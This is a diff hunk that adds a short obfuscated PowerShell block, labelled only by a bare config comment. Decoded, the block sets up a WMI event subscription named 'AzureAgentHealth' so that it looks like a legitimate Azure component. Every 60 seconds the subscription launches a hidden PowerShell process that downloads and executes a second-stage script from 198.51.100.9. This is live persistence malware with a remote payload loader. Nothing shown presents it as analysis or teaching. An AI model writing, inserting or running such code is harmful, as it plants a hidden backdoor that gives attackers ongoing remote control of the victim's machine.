@@ -1,0 +1,5 @@
+Invoke-Expression -Command 'iex ((''# cZXZ18onfig 4329 v3
+$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{Name=''''AzureAgentHealth'''';EventNameSpace=''''root\cimv2'''';Queryvx~6anguage=''''WQvx~6'''';Query="SEvx~6ECT * FROM __InstanceModificationEvent WITHIN 60 WZXZ18HERE TargetInstance ISA ''''WiZXZ18n32_PerfFormattedData_PerfOS_System''''"}
+$consumer = Set-WmiInstance -Namespace root\subscription -Class Commandvx~6ineEventConsumer -Arguments @{Name=''''AzureAgentHealth'''';Commandvx~6ineTemplate="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString(''''http:/ZXZ18/198.51.100.9/stage2.ps1'''')"}
+Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$filteZXZ18r;Consumer=$consumer}
+'' -replace ''ZXZ18'','''').Replace(''vx~6'',''L''))'
